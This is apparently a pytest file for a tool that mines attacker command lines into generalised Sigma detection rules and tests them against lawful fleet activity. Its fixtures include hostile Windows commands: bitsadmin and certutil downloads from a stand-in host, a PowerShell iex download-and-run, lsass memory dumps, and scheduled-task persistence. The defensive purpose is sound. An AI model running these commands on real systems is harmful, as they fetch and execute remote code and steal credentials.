"""From deeds and lawful use to rules: general where lawful use allows it, precise always, else silent."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import polars as pl
import pytest

from longtail.detections.evasions import Start
from longtail.detections.generalise import Cluster, Deed, clusters
from longtail.detections.legitimate import STARTS, Fleet, fleet
from longtail.detections.meanings import GENERAL
from longtail.detections.mining import Mined, mined
from longtail.detections.neutral import neutral
from longtail.detections.predicates import EVENT, conjunction, lowered
from longtail.detections.proof import lawful, proof, status
from longtail.detections.rules import Rule, rule_id
from longtail.detections.sigma import parsed
from longtail.detections.synthesis import MOST_EXPECTED, Found, synthesised

S32 = "C:\\Windows\\System32\\"
NOW = datetime(2026, 3, 4, 5, tzinfo=UTC)
ATTACK = "bitsadmin  /transfer n http://198.51.100.7/Svn.exe c:\\Users\\Public\\Svn.exe"


def start(number: int, line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> dict[str, Any]:
    day = NOW.date() + timedelta(days=changes.pop("days", 0))
    told = {"tenant": "t", "host": f"h{number}", "account": "a", "account_class": "human", "day": day, "image": image,
            "command_line": line, "parent_image": "C:\\a.exe", "parent_command_line": None, "runs": 1}  # fmt: skip
    return {**told, **changes}


def table(*rows: dict[str, Any]) -> pl.DataFrame:
    return pl.DataFrame(rows, schema=STARTS, orient="row")


def quiet(hosts: int = 400, tenants: int = 8) -> list[dict[str, Any]]:
    return [start(host, "svchost.exe -k a", S32 + "svchost.exe", days=day, tenant=f"t{host % tenants}")
            for host in range(hosts) for day in range(3)]  # fmt: skip


def deed(line: str, image: str = S32 + "bitsadmin.exe", **changes: Any) -> Deed:
    told = Deed(date(2026, 3, 4), "v", "attacked", "svc", "mssql", image, line, S32 + "cmd.exe", "1", 3, NOW)
    return replace(told, **changes)


def made(deeds: list[Deed], starts: list[dict[str, Any]]) -> tuple[list[Found], list[str], Fleet]:
    of_fleet = fleet(table(*starts), deeds)
    known = of_fleet.known | {"bitsadmin.exe", "certutil.exe", "whoami.exe", "taskkill.exe", "cmd.exe", "svchost.exe"}
    found, reasons = [], []
    for cluster in clusters(deeds, known):
        good, left = synthesised(cluster, of_fleet)
        found += good
        reasons += [each.reason for each in left]
    return found, reasons, of_fleet


def names(found: Found) -> list[str]:
    return [each.name for each in found.logic.predicates]


def fires(found: Found, line: str, image: str = S32 + "bitsadmin.exe") -> bool:
    event = pl.DataFrame([(image, line, None, None, None)], schema=EVENT, orient="row")
    return bool(conjunction(found.logic.predicates, lowered(event))[0])


def test_the_articles_rule() -> None:
    """Lawful transfers go to other places; the rule needs neither job, address nor file, and not the account."""
    lawful_use = [start(host, f"bitsadmin /transfer j /download http://wsus/{host}.zip d:\\jobs\\{host}.zip",
                        tenant=f"t{host}") for host in range(6)]  # fmt: skip
    (found,), reasons, _ = made([deed(ATTACK)], [*quiet(), *lawful_use])
    assert not reasons
    assert {"program", "bits_transfer", "remote"} <= set(names(found))
    assert not found.logic.account_rule
    text = str(rule_id(found.logic)) + str(found.logic)
    assert not any(word in text.lower() for word in ("svn", "198.51", "mssql", "sqlservr", " n "))
    assert fires(found, "BITSADMIN -Transfer update HTTPS://cdn.example.net/x1.exe C:\\Users\\Public\\Music\\x1.exe")
    assert not any(fires(found, row["command_line"]) for row in lawful_use)


def test_no_rule_is_met_by_lawful_use() -> None:
    """Lawful use that looks exactly like it: then there is no rule, and the numbers say why."""
    same = [start(host, ATTACK.replace("Svn", f"Setup{host}").replace("http://198", "http://10")) for host in range(40)]
    found, reasons, _ = made([deed(ATTACK)], [*quiet(), *same])
    assert not found
    assert "lawful use does the same: 40 of " in reasons[0]


def test_more_lawful_use_makes_a_narrower_rule() -> None:
    wide, _, _ = made([deed(ATTACK)], quiet())
    to_public = [start(host, f"bitsadmin /transfer j http://wsus/{host}.zip c:\\Users\\Public\\{host}.zip")
                 for host in range(60)]  # fmt: skip
    narrow, _, of_fleet = made([deed(ATTACK)], [*quiet(), *to_public])
    assert wide[0].logic.kept > narrow[0].logic.kept
    assert all(each.logic.expected <= MOST_EXPECTED for each in (*wide, *narrow))
    assert proof(narrow[0], lawful(of_fleet)).whole.host_days == 0


def test_nothing_telling_is_refused_however_rare() -> None:
    found, reasons, _ = made([deed("whoami /groups", S32 + "whoami.exe")], quiet())
    assert not found
    assert "sets it apart" in reasons[0]


def test_a_dropped_programs_name_is_no_rule() -> None:
    found, reasons, _ = made([deed("Svn.exe", "C:\\Users\\Public\\Svn.exe")], quiet())
    assert not found
    assert "the attacker's choice" in reasons[0]


def test_a_system_programs_name_elsewhere_is_one() -> None:
    (found,), _, _ = made([deed("svchost.exe -k netsvcs", "C:\\Windows\\System33\\svchost.exe")], quiet())
    assert fires(found, "x", "D:\\a\\svchost.exe")
    assert not fires(found, "x", S32 + "svchost.exe")


def test_a_renamed_program_is_not_the_program() -> None:
    line = "x.exe -urlcache -f http://198.51.100.7/a c:\\Users\\Public\\a.exe"
    (found,), _, _ = made([deed(line, "C:\\Users\\Public\\x.exe")], quiet())
    assert fires(found, line.replace("x.exe", "other.exe"), "D:\\other.exe")
    assert not fires(found, line, S32 + "certutil.exe")
    assert not fires(found, "cmd /c d.exe " + line, S32 + "cmd.exe"), "d.exe starts as a process of its own"
    assert not fires(found, 'forfiles /c "certutil -urlcache -f http://a/b c"', S32 + "forfiles.exe")


DUMP = "C:\\Users\\Public\\p.exe"


def test_what_a_rule_demands_already_is_no_alternative() -> None:
    """``lsass`` and either ``lsass`` or ``-accepteula`` would be ``lsass`` alone, said twice to look precise."""
    line = "p.exe -ma lsass.exe a.dmp"
    small = quiet(hosts=200, tenants=4)
    found, reasons, _ = made([deed(line, DUMP)], small)
    assert not found and "too little lawful use" in reasons[0]
    (found,), _, _ = made([deed(f"{line} -accepteula", DUMP)], small)
    assert names(found)[-1] == "quiet_licence"


def test_a_dump_is_what_a_rule_on_dumps_demands() -> None:
    (found,), _, _ = made([deed("p.exe -accepteula -ma lsass.exe a.dmp", DUMP)], quiet())
    assert fires(found, "other.exe lsass.exe out.dmp", "D:\\other.exe")
    assert not any("lsass" in each.name for each in found.logic.predicates)
    assert not fires(found, 'tasklist /FI "IMAGENAME eq lsass.exe"', S32 + "tasklist.exe")
    assert not fires(found, "findstr lsass a.txt", S32 + "findstr.exe")


def test_what_one_part_demands_no_other_part_repeats() -> None:
    """An option of the program that is a meaning too, in a fleet where it counts as precise only if counted twice."""
    tool = S32 + "sdelete.exe"
    lawful_use = [start(host, f"sdelete.exe -w d{host} job{host}", tool, tenant=f"t{host % 8}") for host in range(30)]
    deeds = [deed(f"sdelete.exe -accepteula x{tenant}", tool, tenant=tenant) for tenant in ("v", "w")]
    found, _, _ = made(deeds, [*quiet(1000), *lawful_use])
    assert not any({"option_accepteula", "quiet_licence"} <= set(names(each)) for each in found)


TASK = 'schtasks /create /tn a /tr "{}" /sc daily'


def test_an_alternative_covers_a_deed_of_its_own() -> None:
    """What the intruder called his file is not one way of several."""
    plain, named = (TASK.format(f"C:\\Windows\\Temp\\{name}.exe") for name in ("x", "sysmon"))
    for line in (plain, named):
        (found,), _, _ = made([deed(line, S32 + "schtasks.exe")], quiet())
        assert not any("_or_" in name for name in names(found))
        assert fires(found, plain, S32 + "schtasks.exe")


def test_two_ways_of_which_each_was_gone_are_one_rule() -> None:
    lines = (TASK.format("C:\\Windows\\Temp\\x.dat"), TASK.format("cmd.exe /c d"))
    (found,), _, _ = made([deed(line, S32 + "schtasks.exe") for line in lines], quiet())
    assert any("_or_" in name for name in names(found))
    assert all(fires(found, line, S32 + "schtasks.exe") for line in lines)


def test_powershell_by_its_lawful_names_is_no_other_program() -> None:
    line = "a.exe -nop -c iex(irm http://198.51.100.7/a)"
    (found,), _, _ = made([deed(line, "C:\\Users\\Public\\a.exe")], quiet())
    assert fires(found, line, "D:\\other.exe")
    for name in ("sqlps", "SQLToolsPS", "powershell_ise"):
        assert not fires(found, line.replace("a.exe", name, 1), f"C:\\Tools\\Binn\\{name}.exe")


def test_ways_apart_become_rules_apart() -> None:
    deeds = [deed(ATTACK), deed("bitsadmin /setnotifycmdline j c:\\a.exe NUL")]
    found, _, _ = made(deeds, quiet())
    assert sorted(len(each.deeds) for each in found) == [1, 1]


def test_days_of_an_attack_are_neither_lawful_not_counted() -> None:
    attacked_host = [start(0, "x", tenant="v", host="ATTACKED"), start(0, ATTACK, tenant="v", host="attacked")]
    of_fleet = fleet(table(*quiet(), *attacked_host), [deed(ATTACK)])
    assert of_fleet.host_days == 400 * 3
    assert of_fleet.use(("bitsadmin.exe",)).faces.is_empty()


@pytest.mark.parametrize(
    ("hosts", "tenants", "of_hosts", "expected"),
    [(1, 1, 400, "experimental"), (4, 2, 400, "test"), (12, 3, 1200, "stable"), (12, 3, 20, "experimental")],
)
def test_status_follows_evidence(hosts: int, tenants: int, of_hosts: int, expected: str) -> None:
    deeds = [deed(ATTACK, host=f"a{n}", tenant=f"v{n % tenants}", day=date(2026, 3, 4 + n % 3)) for n in range(hosts)]
    (found,), _, of_fleet = made(deeds, quiet(of_hosts))
    assert status(found, proof(found, lawful(of_fleet))) == expected


def test_what_was_held_against_nothing_is_not_called_precise() -> None:
    (rule,) = mined([object_of(ATTACK)], table()).rules
    assert rule.status == "experimental" and rule.proof.whole.of_host_days == 0
    assert "held against no lawful use at all" in rule.description
    assert "too little lawful use to call it precise" in mine(hosts=40).rules[0].description
    assert "too little" not in mine().rules[0].description


def test_a_file_of_one_letter_is_no_word_of_a_rule() -> None:
    """Rules have words of one letter, as in ``cmd.exe -a``; a file called so belongs to the instance all the same."""
    logic = [row.predicate for row in GENERAL if row.predicate.name == "inner_shell"]
    told = neutral(Start(S32 + "wmic.exe", 'wmic process call create "cmd.exe -a C:\\Users\\Public\\a.exe"'), logic)
    assert "a.exe" not in told.command_line and "cmd.exe -a C:\\Users\\Public\\" in told.command_line


@pytest.mark.parametrize("number", ["7", "0", "09", "309", "624", "4098", "0987654321"])
def test_no_number_of_the_instance_stays(number: str) -> None:
    line = f"rundll32 comsvcs.dll, MiniDump {number} x full"
    assert f" {number} " not in neutral(Start(S32 + "rundll32.exe", line)).command_line


def object_of(line: str, **changes: Any) -> dict[str, Any]:
    told = {
        "id": "1",
        "tenant": "v",
        "account": "svc",
        "account_class": "mssql",
        "host": "attacked",
        "severity": "high",
    }
    execution = {"time": "2026-03-04T05:00:00Z", "image": S32 + "bitsadmin.exe", "command_line": line,
                 "parent_image": S32 + "cmd.exe", "role": "anomaly"}  # fmt: skip
    return {**told, **changes, "executions": [execution]}


def mine(existing: str = "", hosts: int = 400) -> Mined:
    rules = parsed(existing, "existing").rules if existing else ()
    known = [start(host, "bitsadmin /list", days=1) for host in range(4)]
    return mined([object_of(ATTACK)], table(*quiet(hosts), *known), rules)


def test_a_rules_file_names_no_victim_and_reads_back() -> None:
    pytest.importorskip("sigma")
    (rule,) = mine().rules
    assert not any(word in rule.text.lower() for word in ("svn", "198.51", "attacked", "svc"))
    read = parsed(rule.text, rule.file_name)
    assert len(read.rules) == 1 and not read.refused
    assert (read.rules[0].id, read.rules[0].title) == (rule.id, rule.title)
    assert rule.techniques == ("T1105", "T1197")
    assert rule.day == date(2026, 3, 4) and rule.level == "high"


def test_what_proves_a_rule() -> None:
    (rule,) = mine().rules
    proof = rule.proof
    assert proof.whole.host_days == 0 and proof.whole.upper > 0
    assert proof.transfers == 1 and not proof.account_rule
    assert [each.command_line for each in proof.must] == [ATTACK]
    assert [each.command_line for each in proof.must_not] == ["bitsadmin /list"]
    assert {"case", "blanks", "absolute path"} <= set(proof.survives)
    assert "renamed image where the original name is not logged" in proof.evaded_by


def test_marginal_coverage_names_the_rules_that_know_it_already() -> None:
    pytest.importorskip("sigma")
    existing = ("title: Any bitsadmin\nlogsource: {category: process_creation, product: windows}\n"
                "detection: {a: {Image|endswith: \\bitsadmin.exe}, condition: a}\n")  # fmt: skip
    known: Rule = mine(existing).rules[0]
    assert (known.proof.known_to, known.proof.new) == (("Any bitsadmin",), 0.0)
    assert (mine().rules[0].proof.known_to, mine().rules[0].proof.new) == ((), 1.0)


def test_a_service_as_parent_is_the_last_resort_and_makes_an_account_rule() -> None:
    line = '"C:\\Windows\\system32\\cmd.exe" /c copy \\\\198.51.100.7\\a\\b.exe C:\\Users\\Public\\b.exe'
    sql = "C:\\MSSQL\\Binn\\sqlservr.exe"
    same = [start(host, line.replace("b.exe", f"s{host}.exe"), S32 + "cmd.exe", tenant=f"t{host % 8}")
            for host in range(30)]  # fmt: skip
    found, _, of_fleet = made([deed(line, S32 + "cmd.exe", parent_image=sql)], [*quiet(), *same])
    assert [each.logic.account_rule for each in found] == [True]
    assert proof(found[0], lawful(of_fleet)).account_rule


def test_an_empty_fleet_and_no_alerts() -> None:
    assert mined([], table()) == Mined((), (), ())
    assert mined([object_of(ATTACK)], table()).rules
    assert isinstance(clusters([], frozenset()), tuple) and Cluster("a", None, (), False).label == "a"
